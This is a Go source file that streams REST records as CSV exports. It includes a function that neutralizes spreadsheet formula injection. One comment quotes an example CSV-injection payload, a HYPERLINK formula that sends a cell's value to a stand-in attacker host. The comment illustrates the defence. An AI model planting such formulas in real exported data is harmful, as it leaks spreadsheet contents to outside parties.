package rest

import (
	"bufio"
	"encoding"
	"encoding/json"
	"net/http"
	"reflect"
	"slices"
	"strconv"
	"sync"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/hivematrix/codex/codex"
)

// csvFlushRows is how many rows are buffered before a CSV export flushes to the client.
const csvFlushRows = 1000

// column is one CSV column: the JSON name of a field (address_city for a nested field)
// and how to append its value, as the JSON shows it, to a row.
type column struct {
	name  string
	index []int
	enc   cellEncoder
	// text is set for columns whose cells can begin with a formula character (anything but
	// numbers and booleans): see neutralize.
	text bool
}

// cellEncoder appends the cell of value v to dst, unquoted.
type cellEncoder func(dst []byte, v reflect.Value) []byte

var columnCache sync.Map // reflect.Type -> []column

// columnsOf returns the CSV columns of a representation type: its JSON fields, in order,
// with nested objects (addresses) flattened into prefix_member columns.
func columnsOf(t reflect.Type) []column {
	for t.Kind() == reflect.Pointer {
		t = t.Elem()
	}
	if cols, ok := columnCache.Load(t); ok {
		return cols.([]column)
	}
	cols := appendColumns(nil, t, "", nil)
	// A type's JSON aliases (codex.Company's platform names) are columns too, as in its JSON.
	if al, ok := reflect.Zero(t).Interface().(interface{ JSONAliases() []codex.FieldAlias }); ok {
		for _, a := range al.JSONAliases() {
			for _, c := range cols {
				if c.name == a.Field {
					c.name = a.Alias
					cols = append(cols, c)
					break
				}
			}
		}
	}
	columnCache.Store(t, cols)
	return cols
}

func appendColumns(cols []column, t reflect.Type, prefix string, index []int) []column {
	for i := 0; i < t.NumField(); i++ {
		f := t.Field(i)
		name := jsonName(f)
		if name == "" {
			continue
		}
		idx := append(slices.Clone(index), i)
		if merged(f.Type) {
			cols = appendColumns(cols, f.Type, prefix+name+"_", idx)
			continue
		}
		cols = append(cols, column{name: prefix + name, index: idx, enc: encoder(f.Type), text: textual(f.Type)})
	}
	return cols
}

// textual reports whether cells of type t may hold text, rather than a number or a boolean
// (whose leading '-' is a sign, not a formula).
func textual(t reflect.Type) bool {
	for t.Kind() == reflect.Pointer {
		t = t.Elem()
	}
	if reflect.PointerTo(t).Implements(textAppender) || reflect.PointerTo(t).Implements(textMarshaler) {
		return true
	}
	switch t.Kind() {
	case reflect.Bool, reflect.Int, reflect.Int8, reflect.Int16, reflect.Int32, reflect.Int64,
		reflect.Uint, reflect.Uint8, reflect.Uint16, reflect.Uint32, reflect.Uint64, reflect.Float32, reflect.Float64:
		return false
	}
	return true
}

// neutralize defuses a formula in the cell line[start:], following OWASP's advice on CSV
// injection: a cell beginning with =, +, -, @, a tab or a carriage return gets a leading
// single quote, which spreadsheets show as text instead of evaluating the rest. Contact
// names and ticket text come from end users: `=HYPERLINK("http://evil.example/?x="&A1)`
// must reach a spreadsheet as text.
func neutralize(line []byte, start int) []byte {
	if start >= len(line) {
		return line
	}
	switch line[start] {
	case '=', '+', '-', '@', '\t', '\r':
		line = append(line, 0)
		copy(line[start+1:], line[start:])
		line[start] = '\''
	}
	return line
}

var (
	textMarshaler = reflect.TypeFor[encoding.TextMarshaler]()
	textAppender  = reflect.TypeFor[encoding.TextAppender]()
)

// addr returns a pointer to v's value as an interface without copying the value to the
// heap when v is addressable (fields of a row reached through a pointer are).
func addr(v reflect.Value) any {
	if v.CanAddr() {
		return v.Addr().Interface()
	}
	p := reflect.New(v.Type())
	p.Elem().Set(v)
	return p.Interface()
}

// encoder returns how a value of type t is written in a CSV cell: as its JSON value, with
// strings unquoted, null empty, lists joined with ';' and maps as JSON.
func encoder(t reflect.Type) cellEncoder {
	pt := reflect.PointerTo(t)
	switch {
	case t.Kind() == reflect.Pointer:
		elem := encoder(t.Elem())
		return func(dst []byte, v reflect.Value) []byte {
			if v.IsNil() {
				return dst
			}
			return elem(dst, v.Elem())
		}
	case t == timeType:
		return func(dst []byte, v reflect.Value) []byte {
			return addr(v).(*time.Time).AppendFormat(dst, time.RFC3339Nano)
		}
	case pt.Implements(textAppender):
		return func(dst []byte, v reflect.Value) []byte {
			b, _ := addr(v).(encoding.TextAppender).AppendText(dst)
			return b
		}
	case pt.Implements(textMarshaler):
		return func(dst []byte, v reflect.Value) []byte {
			b, _ := addr(v).(encoding.TextMarshaler).MarshalText()
			return append(dst, b...)
		}
	}
	switch t.Kind() {
	case reflect.String:
		return func(dst []byte, v reflect.Value) []byte { return append(dst, v.String()...) }
	case reflect.Bool:
		return func(dst []byte, v reflect.Value) []byte { return strconv.AppendBool(dst, v.Bool()) }
	case reflect.Int, reflect.Int8, reflect.Int16, reflect.Int32, reflect.Int64:
		return func(dst []byte, v reflect.Value) []byte { return strconv.AppendInt(dst, v.Int(), 10) }
	case reflect.Slice:
		elem := encoder(t.Elem())
		return func(dst []byte, v reflect.Value) []byte {
			for i := range v.Len() {
				if i > 0 {
					dst = append(dst, ';')
				}
				dst = elem(dst, v.Index(i))
			}
			return dst
		}
	case reflect.Map:
		return func(dst []byte, v reflect.Value) []byte {
			if v.IsNil() {
				return dst
			}
			b, _ := json.Marshal(v.Interface())
			return append(dst, b...)
		}
	}
	return func(dst []byte, v reflect.Value) []byte {
		b, _ := json.Marshal(v.Interface())
		if s, err := strconv.Unquote(string(b)); err == nil {
			return append(dst, s...)
		}
		return append(dst, b...)
	}
}

// csvWriter writes CSV records as encoding/csv's Writer does with UseCRLF (comma
// separated, RFC 4180's "\r\n" line ends, a field quoted when it holds a comma, a quote, a line break,
// starts with a space, or is `\.`), from cells appended straight into one reused line.
type csvWriter struct {
	w    *bufio.Writer
	line []byte
	cell []byte // scratch for a cell being quoted
}

// endCell makes line[start:], the cell just appended, a valid CSV field and appends
// the separator that follows it.
func (c *csvWriter) endCell(start int, last bool) {
	if cell := c.line[start:]; needsQuotes(cell) {
		c.cell = append(c.cell[:0], cell...)
		c.line = append(c.line[:start], '"')
		for _, b := range c.cell {
			if b == '"' {
				c.line = append(c.line, '"')
			}
			c.line = append(c.line, b)
		}
		c.line = append(c.line, '"')
	}
	if last {
		c.line = append(c.line, '\r', '\n')
	} else {
		c.line = append(c.line, ',')
	}
}

func needsQuotes(cell []byte) bool {
	if len(cell) == 0 {
		return false
	}
	if string(cell) == `\.` {
		return true
	}
	for _, b := range cell {
		if b == '\n' || b == '\r' || b == '"' || b == ',' {
			return true
		}
	}
	r, _ := utf8.DecodeRune(cell)
	return unicode.IsSpace(r)
}

// writeLine writes the finished line and starts the next one.
func (c *csvWriter) writeLine() error {
	_, err := c.w.Write(c.line)
	c.line = c.line[:0]
	return err
}

// utf8BOM starts an export asked for with ?bom=true.
var utf8BOM = []byte{0xEF, 0xBB, 0xBF}

// streamCSV writes the rows run emits as CSV, flushing every csvFlushRows rows, so an
// export of any size holds one row in memory; with ?bom=true it starts with a UTF-8 byte
// order mark, which Excel needs to read UTF-8. The header is written with the first row
// (or at the end of an empty export): an error before then still gets a problem response.
// An error after rows went out aborts the connection, so a client cannot mistake a
// truncated export for a complete one.
func streamCSV[R any](a *API, w http.ResponseWriter, r *http.Request, name string, run func(emit func(R) error) error) {
	bom := false
	if vs, ok := r.URL.Query()["bom"]; ok {
		s, err := single("bom", vs)
		if err == nil {
			bom, err = parseBool("bom", s)
		}
		if err != nil {
			a.problem(w, r, err)
			return
		}
	}
	cols := columnsOf(reflect.TypeFor[R]())
	cw := &csvWriter{w: bufio.NewWriterSize(w, 64<<10), line: make([]byte, 0, 512)}
	rc := http.NewResponseController(w)
	rows := 0
	start := func() error {
		h := w.Header()
		h.Set("Content-Type", "text/csv; charset=utf-8")
		h.Set("Cache-Control", "no-store")
		h.Set("Content-Disposition", `attachment; filename="`+name+`.csv"`)
		if bom {
			cw.line = append(cw.line, utf8BOM...)
		}
		for i, c := range cols {
			n := len(cw.line)
			cw.line = append(cw.line, c.name...)
			cw.endCell(n, i == len(cols)-1)
		}
		return cw.writeLine()
	}
	err := run(func(row R) error {
		if rows == 0 {
			if err := start(); err != nil {
				return err
			}
		}
		v := reflect.ValueOf(row)
		for v.Kind() == reflect.Pointer {
			v = v.Elem()
		}
		for i, c := range cols {
			f := v
			for _, x := range c.index {
				f = f.Field(x)
			}
			n := len(cw.line)
			cw.line = c.enc(cw.line, f)
			if c.text {
				cw.line = neutralize(cw.line, n)
			}
			cw.endCell(n, i == len(cols)-1)
		}
		if err := cw.writeLine(); err != nil {
			return err
		}
		rows++
		if rows%csvFlushRows == 0 {
			if err := cw.w.Flush(); err != nil {
				return err
			}
			_ = rc.Flush()
		}
		return nil
	})
	if err == nil && rows == 0 {
		err = start()
	}
	if err == nil {
		err = cw.w.Flush()
	}
	if err == nil {
		return
	}
	if rows == 0 {
		a.problem(w, r, err)
		return
	}
	a.log.ErrorContext(r.Context(), "rest: CSV export aborted", "request_id", codex.RequestIDFrom(r.Context()),
		"path", r.URL.Path, "rows", rows, "err", err)
	panic(http.ErrAbortHandler)
}
